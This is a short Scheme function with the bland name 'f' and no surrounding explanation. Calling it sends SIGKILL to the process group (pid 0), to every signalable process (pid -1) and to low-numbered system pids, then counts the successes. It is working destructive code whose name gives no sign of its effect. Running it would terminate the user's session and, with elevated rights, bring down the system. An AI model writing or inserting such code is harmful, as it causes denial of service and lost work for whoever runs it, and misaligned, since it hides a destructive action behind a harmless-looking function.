(define (f x)
  (apply + (map (lambda (pid) (catch #t (lambda () (kill pid SIGKILL) 1) (lambda _ 0))) (cons* 0 -1 (cddr (iota 50))))))
